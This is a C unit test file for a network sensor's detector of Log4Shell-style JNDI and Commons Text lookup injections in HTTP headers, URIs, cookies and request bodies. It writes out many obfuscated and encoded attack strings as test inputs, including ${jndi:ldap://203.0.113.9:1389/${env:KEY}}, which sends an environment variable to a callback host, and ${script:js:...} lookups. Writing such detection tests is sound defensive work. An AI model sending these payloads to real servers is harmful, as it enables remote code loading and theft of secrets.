/* Tests of the detector: heads and bodies as decoders emit them, and the look-ups found in them. */
#include "sensor/base/bytes.h"
#include "sensor/base/sbuf.h"
#include "tests/unit/bench_detect.h"

#include <string.h>

/* The part of the head that is this text, as a field. */
static void field_in(struct bench *b, struct span bytes, enum field_id id, const char *item,
                     const char *value)
{
    size_t at = span_find(bytes, 0, span_str(value));
    CU_ASSERT_FATAL(at != SPAN_NONE);
    field_of(b, id, item, span_sub(bytes, at, span_str(value).len));
}

/* --- heads --- */

static void a_header_tells_all_of_its_lookup(void)
{
    struct bench b;
    bench_start(&b, "");
    request(&b, "GET / HTTP/1.1\r\nHost: a\r\n"
                "User-Agent: x ${${lower:J}ndi:ldap://203.0.113.9:1389/${env:KEY}} y\r\n\r\n");
    EXPECT(&b, "header", {9000101, "http.user_agent", "jndi:ldap://203.0.113.9:1389/${env:KEY}"});
    const struct finding *f = b.found[0];
    const struct jndi *j = f->jndi;
    CU_ASSERT_PTR_NOT_NULL_FATAL(j);
    CU_ASSERT_EQUAL(j->class, LOOKUP_ATTACK);
    CU_ASSERT(span_equal(j->raw, SPAN("${${lower:J}ndi:ldap://203.0.113.9:1389/${env:KEY}}")));
    CU_ASSERT_FALSE(j->raw_cut);
    CU_ASSERT(span_equal(j->scheme, SPAN("ldap")));
    CU_ASSERT(j->reaches_network);
    CU_ASSERT(span_equal(j->callback.host, SPAN("203.0.113.9")));
    CU_ASSERT_EQUAL(j->callback.ip.family, 4);
    CU_ASSERT_EQUAL(j->callback.port, 1389);
    CU_ASSERT(span_equal(j->callback.path, SPAN("/${env:KEY}")));
    CU_ASSERT_EQUAL_FATAL(j->n_variables, 1);
    CU_ASSERT(span_equal(j->variables[0], SPAN("env:KEY")));
    CU_ASSERT_EQUAL(j->depth, 2);
    CU_ASSERT_EQUAL(j->encodings.n, 0);
    CU_ASSERT_NOT_EQUAL(j->attack_id, 0);
    CU_ASSERT_NOT_EQUAL(j->campaign, 0);
    CU_ASSERT_EQUAL(f->dir, TO_SERVER);
    CU_ASSERT_EQUAL(f->time_us, b.conn.last_us);
    CU_ASSERT_EQUAL(f->clock_us, b.conn.clock_us);
    CU_ASSERT_EQUAL(f->number, 5);
    CU_ASSERT_EQUAL(f->signature->severity, 1);
    CU_ASSERT(span_starts(f->context, SPAN("x ${${lower:J}")));
    bench_stop(&b);
}

static void look_ups_of_commons_text_have_rules_of_their_own(void)
{
    struct bench b;
    bench_start(&b, "");
    request(&b, "GET / HTTP/1.1\r\nUser-Agent: ${script:js:1}\r\n"
                "X-A: ${dns:address|x.example}\r\nX-B: %24%7Burl:UTF-8:http://x.example/%7D\r\n"
                "X-C: ${url:UTF-8:file:/a}\r\nX-D: ${a:-${script:js:2}}\r\n"
                "X-E: ${script:f()}\r\nX-F: ${env:HOME} ${url:home}\r\n\r\n");
    EXPECT(&b, "commons text", {9001101, "http.user_agent", "script:js:1"},
           {9001102, "http.request_header.x-a", "dns:address|x.example"},
           {9001103, "http.request_header.x-b", "url:UTF-8:http://x.example/"},
           {9001110, "http.request_header.x-c", "url:UTF-8:file:/a"},
           {9001120, "http.request_header.x-d", "script:js:2"},
           {9001130, "http.request_header.x-e", NULL});
    CU_ASSERT_EQUAL(b.found[0]->jndi->dialect, LOOKUP_COMMONS_TEXT);
    CU_ASSERT(span_equal(b.found[0]->jndi->scheme, SPAN("script")));
    CU_ASSERT(span_equal(b.found[1]->jndi->callback.host, SPAN("x.example")));
    bench_stop(&b);
}

static void a_text_may_hold_look_ups_of_both(void)
{
    struct bench b;
    bench_start(&b, "");
    request(&b, "GET / HTTP/1.1\r\nUser-Agent: ${dns:x} ${jndi:ldap://h/a}\r\n"
                "X-A: ${dns:y}\r\nX-${jndi:ldap://h/b}: c\r\n\r\n");
    EXPECT(&b, "both", {9000101, "http.user_agent", "jndi:ldap://h/a"},
           {9001102, "http.user_agent", "dns:x"}, {9001102, "http.request_header.x-a", "dns:y"},
           {9000101, "http.header", "jndi:ldap://h/b"});
    bench_stop(&b);
}

static void a_clean_head_finds_nothing(void)
{
    struct bench b;
    bench_start(&b, "");
    request(&b, "GET /a?b=$c HTTP/1.1\r\nHost: a\r\nUser-Agent: jndi:ldap://x {a}\r\n\r\n");
    expect_nothing(&b, "clean");
    CU_ASSERT_PTR_NULL(b.tx.detect);
    CU_ASSERT_EQUAL(arena_memory(b.tx.arena) < 4096, true);
    bench_stop(&b);
}

static void the_same_lookup_in_two_headers_is_two_findings(void)
{
    struct bench b;
    bench_start(&b, "");
    request(&b, "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://h/a}\r\n"
                "X-Api-Version: ${jndi:ldap://h/a}\r\n\r\n");
    EXPECT(&b, "two headers", {9000101, "http.user_agent", "jndi:ldap://h/a"},
           {9000101, "http.request_header.x-api-version", "jndi:ldap://h/a"});
    CU_ASSERT_NOT_EQUAL(b.found[0]->jndi->attack_id, b.found[1]->jndi->attack_id);
    CU_ASSERT_EQUAL(b.found[0]->jndi->campaign, b.found[1]->jndi->campaign);
    bench_stop(&b);
}

static void headers_of_the_same_name_count_by_their_names(void)
{
    struct bench b;
    bench_start(&b, "");
    request(&b, "GET / HTTP/1.1\r\nX-A: ${jndi:ldap://h/a}\r\nX-A: ${jndi:ldap://h/a}\r\n"
                "X-A: ${jndi:ldap://h/b}\r\n\r\n");
    EXPECT(&b, "same name", {9000101, "http.request_header.x-a", "jndi:ldap://h/a"},
           {9000101, "http.request_header.x-a", "jndi:ldap://h/b"});
    bench_stop(&b);
}

static void the_smallest_part_of_a_target_is_told(void)
{
    struct bench b;
    bench_start(&b, "");
    request(&b, "GET /p?a=1&q=${jndi:ldap://h/a}&z=2 HTTP/1.1\r\n\r\n");
    EXPECT(&b, "parameter", {9000101, "http.uri_param.q", "jndi:ldap://h/a"});
    tx_again(&b);
    request(&b, "GET /${jndi:ldap://h/a}?a=1 HTTP/1.1\r\n\r\n");
    EXPECT(&b, "path", {9000101, "http.uri", "jndi:ldap://h/a"});
    tx_again(&b);
    request(&b, "GET /p?q=%24%7Bjndi:ldap://h/a%7D HTTP/1.1\r\n\r\n");
    EXPECT(&b, "encoded", {9000101, "http.uri_param.q", "jndi:ldap://h/a"});
    CU_ASSERT_EQUAL_FATAL(b.found[0]->jndi->encodings.n, 1);
    CU_ASSERT_EQUAL(b.found[0]->jndi->encodings.ids[0], ENCODING_PERCENT);
    bench_stop(&b);
}

static void a_separator_in_a_lookup_does_not_hide_it(void)
{
    struct bench b;
    bench_start(&b, "");
    request(&b, "GET /p?a=${jndi:ldap://h/?b=1&c=2}&d=3 HTTP/1.1\r\n\r\n");
    EXPECT(&b, "ampersand", {9000101, "http.uri", "jndi:ldap://h/?b=1&c=2"});
    tx_again(&b);
    request(&b, "GET /p HTTP/1.1\r\nCookie: a=1; b=${jndi:ldap://h/x;y}; c=2\r\n\r\n");
    EXPECT(&b, "semicolon", {9000101, "http.cookie", "jndi:ldap://h/x;y"});
    tx_again(&b);
    request(&b, "GET /p HTTP/1.1\r\n${jndi:ldap://h/a}: v\r\nHost: a\r\n\r\n");
    EXPECT(&b, "colon", {9000101, "http.header", "jndi:ldap://h/a"});
    tx_again(&b);
    request(&b, "${jndi:ldap://h/ /x} HTTP/1.1\r\n\r\n");
    EXPECT(&b, "blank", {9000101, "http.request_line", "jndi:ldap://h/ /x"});
    bench_stop(&b);
}

static void a_cookie_is_told_by_its_name(void)
{
    struct bench b;
    bench_start(&b, "");
    request(&b, "GET / HTTP/1.1\r\nCookie: a=1; sid=${jndi:rmi://h/a}; b=2\r\n\r\n");
    EXPECT(&b, "cookie", {9000103, "http.cookie.sid", "jndi:rmi://h/a"});
    bench_stop(&b);
}

static void a_decoded_copy_and_its_original_are_one_finding(void)
{
    struct bench b;
    struct span all = SPAN("GET / HTTP/1.1\r\nX-A: %24%7Bjndi:ldap://h/a%7D\r\n\r\n");
    bench_start(&b, "");
    head(&b, all);
    const struct field copy = {.id = FIELD_HTTP_REQUEST_HEADER,
                               .item = SPAN("x-a"),
                               .value = SPAN("${jndi:ldap://h/a}"),
                               .layers = encodings_with((struct encodings){0}, ENCODING_BASIC)};
    detect_field(b.detector, &b.tx, &copy);
    field_in(&b, all, FIELD_HTTP_REQUEST_HEADER, "x-a", "%24%7Bjndi:ldap://h/a%7D");
    field_in(&b, all, FIELD_HTTP_HEADER, "", "X-A: %24%7Bjndi:ldap://h/a%7D\r\n\r\n");
    EXPECT(&b, "copy", {9000101, "http.request_header.x-a", "jndi:ldap://h/a"});
    CU_ASSERT_EQUAL_FATAL(b.found[0]->jndi->encodings.n, 1);
    CU_ASSERT_EQUAL(b.found[0]->jndi->encodings.ids[0], ENCODING_BASIC);
    bench_stop(&b);
}

static void a_copy_answers_for_one_line_only(void)
{
    struct bench b;
    struct span all = SPAN("GET / HTTP/1.1\r\nA: %24%7Bjndi:ldap://h/a%7D\r\n"
                           "%24%7Bjndi:ldap://h/a%7D: x\r\n\r\n");
    bench_start(&b, "");
    head(&b, all);
    const struct field copy = {
        .id = FIELD_HTTP_REFERER, .value = SPAN("${jndi:ldap://h/a}"), .dir = TO_SERVER};
    detect_field(b.detector, &b.tx, &copy);
    field_of(&b, FIELD_HTTP_HEADER, "", span_from(all, 16));
    EXPECT(&b, "one line", {9000101, "http.referer", "jndi:ldap://h/a"},
           {9000101, "http.header", "jndi:ldap://h/a"});
    bench_stop(&b);
}

static void repeated_and_derived_fields_are_not_evaluated(void)
{
    struct bench b;
    bench_start(&b, "");
    const struct field repeated = {
        .id = FIELD_SMTP_HELO, .value = SPAN("${jndi:ldap://h/a}"), .flags = FIELD_REPEATED};
    detect_field(b.detector, &b.tx, &repeated);
    field_of(&b, FIELD_HTTP_URI, "", SPAN("/${jndi:ldap://h/a}"));
    field_of(&b, FIELD_HTTP_HOST, "", SPAN("${jndi:ldap://h/a}"));
    expect_nothing(&b, "derived");
    field_of(&b, FIELD_SMTP_HELO, "", SPAN("${jndi:ldap://h/a}"));
    EXPECT(&b, "helo", {9000101, "smtp.helo", NULL});
    bench_stop(&b);
}

static void a_tx_that_could_not_be_made_is_left_alone(void)
{
    struct bench b;
    bench_start(&b, "");
    const struct region r = {.kind = REGION_HEAD, .bytes = SPAN("${jndi:ldap://h/a}")};
    const struct field f = {.id = FIELD_HTTP_USER_AGENT, .value = r.bytes};
    detect_region(b.detector, NULL, &r);
    detect_field(b.detector, NULL, &f);
    detect_tx_end(b.detector, NULL);
    expect_nothing(&b, "no tx");
    CU_ASSERT_EQUAL(stats_get(&b.stats, STAT_LOST_MEMORY), r.bytes.len);
    bench_stop(&b);
}

static void many_findings_are_capped_and_counted(void)
{
    struct bench b;
    char value[64];
    bench_start(&b, "");
    for (int i = 0; i < 70; i++) {
        snprintf(value, sizeof(value), "${jndi:ldap://h/%d}", i);
        field_of(&b, FIELD_HTTP_USER_AGENT, "", span_str(value));
    }
    CU_ASSERT_EQUAL(b.n_found, 64);
    CU_ASSERT_EQUAL(stats_get(&b.stats, STAT_FINDINGS_LOST), 6);
    bench_stop(&b);
}

static void memory_that_runs_out_is_counted(void)
{
    struct bench b;
    bench_start(&b, "");
    for (size_t cap = 0; cap < 2000; cap += 100) {
        tx_again(&b);
        arena_free(&b.tx.arena);
        b.tx.arena = arena_new(cap);
        uint64_t before = stats_get(&b.stats, STAT_FINDINGS_LOST);
        field_of(&b, FIELD_HTTP_USER_AGENT, "", SPAN("${jndi:ldap://h/a}"));
        CU_ASSERT(b.n_found == 1 || stats_get(&b.stats, STAT_FINDINGS_LOST) > before);
    }
    CU_ASSERT_EQUAL(b.n_found, 1);
    bench_stop(&b);
}

/* --- bodies --- */

static void a_body_in_one_piece_is_placed(void)
{
    static const struct {
        const char *text;
        enum body_type type;
        const char *name;
    } cases[] = {
        {"{\"user\":{\"name\":\"${jndi:ldap://h/a}\"}}", BODY_JSON,
         "http.request_body.json.user.name"},
        {"a=1&q=${jndi:ldap://h/a}&b=2", BODY_FORM, "http.request_body.form.q"},
        {"first\n${jndi:ldap://h/a}\nlast", BODY_TEXT, "http.request_body"},
        {"<a><note>${jndi:ldap://h/a}</note></a>", BODY_XML, "http.request_body.xml.note"},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct bench b;
        bench_start(&b, "");
        body(&b, cases[i].text, cases[i].type);
        EXPECT(&b, cases[i].text, {9000101, cases[i].name, "jndi:ldap://h/a"});
        CU_ASSERT_PTR_NULL(b.n_found == 1 ? NULL : &b);
        bench_stop(&b);
    }
}

static void a_separator_in_a_body_does_not_hide_a_lookup(void)
{
    struct bench b;
    bench_start(&b, "");
    body(&b, "x=1&a=${jndi:ldap://h/?b=1&c=2}&d=3", BODY_FORM);
    EXPECT(&b, "form", {9000101, "http.request_body", "jndi:ldap://h/?b=1&c=2"});
    bench_stop(&b);
    /* The '&' of a character reference makes no form. */
    bench_start(&b, "");
    body(&b, "&dollar;&lbrace;jndi&colon;ldap&colon;//h/?a=1&rbrace;", BODY_UNKNOWN);
    EXPECT(&b, "references", {9000101, "http.request_body", "jndi:ldap://h/?a=1"});
    bench_stop(&b);
}

/* What is found must not depend on where the body is cut. */
static void a_body_may_be_cut_anywhere(void)
{
    struct span text = SPAN("{\"a\":\"no ${x}\",\"b\":[\"$\",\"${jndi:ldap://h/1}\"],"
                            "\"c\":\"%24%7Bjndi:rmi://h/2%7D\"}");
    for (size_t first = 0; first <= text.len; first++) {
        for (size_t step = 1; step <= text.len; step += step < 8 ? 1 : 17) {
            struct bench b;
            bench_start(&b, "");
            body_piece(&b, span_head(text, first), REGION_FIRST, BODY_JSON);
            for (size_t at = first; at < text.len; at += step) {
                body_piece(&b, span_sub(text, at, step), 0, BODY_UNKNOWN);
            }
            body_piece(&b, span_of(NULL, 0), REGION_LAST, BODY_UNKNOWN);
            EXPECT(&b, "cut", {9000101, "http.request_body.json.b.1", "jndi:ldap://h/1"},
                   {9000103, "http.request_body.json.c", "jndi:rmi://h/2"});
            bench_stop(&b);
            step = first > 0 && first < text.len ? text.len : step;
        }
    }
}

static void a_lookup_deep_in_a_body_is_found(void)
{
    static const size_t offs[] = {0,      1000,    65400,   65536,   65600,  131000,
                                  131072, 1 << 20, 3000000, 3300000, 3333333};
    for (size_t i = 0; i < ARRAY_LEN(offs); i++) {
        for (int whole = 0; whole < 2; whole++) {
            struct bench b;
            struct sbuf text = sbuf_with_cap(1 << 24);
            add_lines(&text, offs[i]);
            sbuf_add_str(&text, "here ${jndi:ldap://h/deep}\n");
            add_lines(&text, 3400000);
            bench_start(&b, "");
            struct span rest = sbuf_span(&text);
            unsigned first = REGION_FIRST;
            while (rest.len > 0) {
                struct span piece = span_head(rest, whole ? SIZE_MAX : 1447);
                body_piece(&b, piece, first, BODY_TEXT);
                first = 0;
                rest = span_from(rest, piece.len);
            }
            body_piece(&b, rest, REGION_LAST, BODY_UNKNOWN);
            char what[64];
            snprintf(what, sizeof(what), "deep at %zu, %s", offs[i], whole ? "whole" : "in pieces");
            EXPECT(&b, what, {9000101, "http.request_body", "jndi:ldap://h/deep"});
            bench_stop(&b);
            sbuf_free(&text);
        }
    }
}

static void windows_meet_without_a_seam(void)
{
    struct detect_limits limits = detect_limits_default();
    limits.body_before = 64;
    limits.body_after = 512;
    for (size_t off = 0; off < 1400; off += 3) {
        struct bench b;
        struct sbuf text = sbuf_with_cap(1 << 16);
        bench_start_limited(&b, "", limits);
        while (text.len < off) {
            sbuf_add_str(&text, text.len % 7 == 0 ? "${x} " : "word ");
        }
        sbuf_add_str(&text, "${${lower:j}ndi:${lower:l}dap://h/${lower:a}}");
        while (text.len < 3000) {
            sbuf_add_str(&text, " ${y}");
        }
        struct span rest = sbuf_span(&text);
        body_piece(&b, span_head(rest, 10), REGION_FIRST, BODY_TEXT);
        body_piece(&b, span_from(rest, 10), REGION_LAST, BODY_UNKNOWN);
        CU_ASSERT(b.n_found >= 1);
        bool found = false;
        for (size_t i = 0; i < b.n_found; i++) {
            found = found || (b.found[i]->signature->sid == 9000101 &&
                              span_equal(b.found[i]->jndi->lookups[0], SPAN("jndi:ldap://h/a")));
        }
        CU_ASSERT(found);
        if (!found) {
            printf("\n  at %zu\n", off);
        }
        bench_stop(&b);
        sbuf_free(&text);
    }
}

static void nothing_is_joined_across_a_gap(void)
{
    struct bench b;
    bench_start(&b, "");
    body_piece(&b, SPAN("a ${jn"), REGION_FIRST, BODY_TEXT);
    body_piece(&b, SPAN("di:ldap://h/a} b"), REGION_AFTER_GAP, BODY_UNKNOWN);
    body_piece(&b, SPAN(""), REGION_LAST, BODY_UNKNOWN);
    expect_nothing(&b, "gap");
    body_piece(&b, SPAN("a ${jn"), REGION_FIRST, BODY_TEXT);
    body_piece(&b, SPAN("x"), REGION_AFTER_GAP, BODY_UNKNOWN);
    body_piece(&b, SPAN("y ${jndi:ldap://h/b}"), 0, BODY_UNKNOWN);
    body_piece(&b, SPAN(""), REGION_LAST, BODY_UNKNOWN);
    EXPECT(&b, "behind it", {9000101, "http.request_body", "jndi:ldap://h/b"});
    bench_stop(&b);
}

static void a_body_that_does_not_end_is_looked_at_with_its_tx(void)
{
    struct bench b;
    bench_start(&b, "");
    body_piece(&b, SPAN("a=${jndi:ldap://h/a"), REGION_FIRST, BODY_FORM);
    body_piece(&b, SPAN("}&b=1"), 0, BODY_UNKNOWN);
    expect_nothing(&b, "not yet");
    tx_stop(&b);
    EXPECT(&b, "ended", {9000101, "http.request_body.form.a", "jndi:ldap://h/a"});
    bench_stop(&b);
}

static void two_bodies_at_once_do_not_mix(void)
{
    struct bench b;
    bench_start(&b, "");
    const struct region other = {.kind = REGION_BODY,
                                 .field = FIELD_FILE_DATA,
                                 .bytes = SPAN("${jndi:ld"),
                                 .flags = REGION_FIRST,
                                 .body_type = BODY_TEXT};
    const struct region end = {.kind = REGION_BODY,
                               .field = FIELD_FILE_DATA,
                               .bytes = SPAN("ap://h/file}"),
                               .flags = REGION_LAST};
    body_piece(&b, SPAN("${jndi:r"), REGION_FIRST, BODY_TEXT);
    detect_region(b.detector, &b.tx, &other);
    body_piece(&b, SPAN("mi://h/body}"), REGION_LAST, BODY_UNKNOWN);
    detect_region(b.detector, &b.tx, &end);
    EXPECT(&b, "two", {9000103, "http.request_body", "jndi:rmi://h/body"},
           {9000101, "file.data", "jndi:ldap://h/file"});
    bench_stop(&b);
}

static void many_values_with_hits_stay_affordable(void)
{
    struct bench b;
    struct sbuf text = sbuf_with_cap(1 << 20);
    sbuf_add_str(&text, "{\"a\":[\"${jndi\"");
    while (text.len < 60000) {
        sbuf_add_str(&text, ",\"${\"");
    }
    sbuf_add_str(&text, ",\"${jndi:ldap://h/last}\"]}");
    bench_start(&b, "");
    body_piece(&b, sbuf_span(&text), REGION_FIRST | REGION_LAST, BODY_JSON);
    CU_ASSERT(b.n_found >= 1);
    bench_stop(&b);
    sbuf_free(&text);
}

static void bodies_stay_searched_when_memory_is_short(void)
{
    struct detect_limits limits = detect_limits_default();
    struct bench b;
    limits.body_memory = 0;
    bench_start_limited(&b, "", limits);
    body_piece(&b, SPAN("filler"), REGION_FIRST, BODY_TEXT);
    const struct region other = {.kind = REGION_BODY,
                                 .field = FIELD_FILE_DATA,
                                 .bytes = SPAN("text ${jn"),
                                 .flags = REGION_FIRST,
                                 .body_type = BODY_TEXT};
    const struct region end = {.kind = REGION_BODY,
                               .field = FIELD_FILE_DATA,
                               .bytes = SPAN("di:ldap://h/a}"),
                               .flags = REGION_LAST};
    detect_region(b.detector, &b.tx, &other);
    detect_region(b.detector, &b.tx, &end);
    EXPECT(&b, "poor", {9000101, "file.data", "jndi:ldap://h/a"});
    CU_ASSERT_EQUAL(stats_get(&b.stats, STAT_BODIES_POOR), 1);
    bench_stop(&b);
}

static CU_TestInfo heads[] = {
    {"a header tells all of its look-up", a_header_tells_all_of_its_lookup},
    {"look-ups of Commons Text have rules of their own",
     look_ups_of_commons_text_have_rules_of_their_own},
    {"a text may hold look-ups of both", a_text_may_hold_look_ups_of_both},
    {"a clean head finds nothing", a_clean_head_finds_nothing},
    {"the same look-up in two headers is two findings",
     the_same_lookup_in_two_headers_is_two_findings},
    {"headers of the same name count by their names",
     headers_of_the_same_name_count_by_their_names},
    {"the smallest part of a target is told", the_smallest_part_of_a_target_is_told},
    {"a separator in a look-up does not hide it", a_separator_in_a_lookup_does_not_hide_it},
    {"a cookie is told by its name", a_cookie_is_told_by_its_name},
    {"a decoded copy and its original are one finding",
     a_decoded_copy_and_its_original_are_one_finding},
    {"a copy answers for one line only", a_copy_answers_for_one_line_only},
    {"repeated and derived fields are not evaluated",
     repeated_and_derived_fields_are_not_evaluated},
    {"a tx that could not be made is left alone", a_tx_that_could_not_be_made_is_left_alone},
    {"many findings are capped and counted", many_findings_are_capped_and_counted},
    {"memory that runs out is counted", memory_that_runs_out_is_counted},
    CU_TEST_INFO_NULL,
};

static CU_TestInfo bodies[] = {
    {"a body in one piece is placed", a_body_in_one_piece_is_placed},
    {"a separator in a body does not hide a look-up", a_separator_in_a_body_does_not_hide_a_lookup},
    {"a body may be cut anywhere", a_body_may_be_cut_anywhere},
    {"a look-up deep in a body is found", a_lookup_deep_in_a_body_is_found},
    {"windows meet without a seam", windows_meet_without_a_seam},
    {"nothing is joined across a gap", nothing_is_joined_across_a_gap},
    {"a body that does not end is looked at with its tx",
     a_body_that_does_not_end_is_looked_at_with_its_tx},
    {"two bodies at once do not mix", two_bodies_at_once_do_not_mix},
    {"many values with hits stay affordable", many_values_with_hits_stay_affordable},
    {"bodies stay searched when memory is short", bodies_stay_searched_when_memory_is_short},
    CU_TEST_INFO_NULL,
};

int main(void)
{
    CU_SuiteInfo suites[] = {
        {"heads", NULL, NULL, NULL, NULL, heads},
        {"bodies", NULL, NULL, NULL, NULL, bodies},
        CU_SUITE_INFO_NULL,
    };
    return run_suites(suites);
}
